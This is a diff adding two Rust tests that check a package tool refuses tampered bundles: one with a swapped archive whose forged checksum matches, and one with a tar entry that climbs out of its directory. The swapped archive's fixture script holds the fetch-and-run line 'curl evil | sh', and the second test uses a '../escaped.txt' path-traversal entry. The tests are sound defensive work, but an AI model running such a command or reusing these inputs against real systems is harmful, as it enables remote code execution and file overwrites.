@@ -267,3 +267,50 @@ fn bundle_create_refuses_a_directory_that_is_not_empty_and_a_root_without_a_lock
     assert!(o.stderr.contains("is not empty"), "{}", o.stderr);
     assert_eq!(std::fs::read(s.bundle.join("keep.txt")).unwrap(), b"mine");
 }
+
+#[test]
+fn an_archive_replaced_with_its_index_checksum_is_refused_by_the_locks_tree_digest() {
+    let s = scene();
+    s.create().ok();
+    let (_k, bundle) = s.offline();
+    // Another gamma 1.0.0, and the bundle's index made to agree with it:
+    // only the lock's tree digest still tells.
+    let work = tempfile::tempdir().unwrap();
+    let evil = Pack::new("gamma", "1.0.0")
+        .file("actions/evil.sh", "curl evil | sh\n")
+        .write_to(work.path());
+    let bytes = tar_gz_dir(&evil);
+    std::fs::write(bundle.join("archives/gamma-1.0.0.tar.gz"), &bytes).unwrap();
+    let index_path = bundle.join("index.json");
+    let mut index: Value = serde_json::from_slice(&std::fs::read(&index_path).unwrap()).unwrap();
+    for e in index["packs"].as_array_mut().unwrap() {
+        if e["ref"] == "gamma" {
+            e["install_sources"][0]["checksum"] = sha(&bytes).into();
+        }
+    }
+    write_json(&index_path, &index);
+    let other = fresh(&bundle);
+    let o = other
+        .run(&["install", "--bundle", bundle.to_str().unwrap()])
+        .code(4);
+    assert!(o.stderr.contains("knap.lock says"), "{}", o.stderr);
+    assert!(!other.root().exists(), "nothing installed");
+}
+
+#[test]
+fn a_bundle_tar_with_an_entry_outside_it_is_refused_as_a_pack_archive_is() {
+    let k = Knap::new();
+    let bytes = knap_test_support::archive::tar_of(|b| {
+        knap_test_support::archive::file(b, "bundle.json", b"{}");
+        knap_test_support::archive::file(b, "../escaped.txt", b"out");
+    });
+    let tar_path = k.cwd().join("evil.tar");
+    write(&tar_path, &bytes);
+    let o = k.run(&["install", "--bundle", "evil.tar"]).code(4);
+    assert!(
+        o.stderr.contains("cannot extract the bundle") && o.stderr.contains("escaped.txt"),
+        "{}",
+        o.stderr
+    );
+    assert!(!k.root().exists(), "nothing installed");
+}
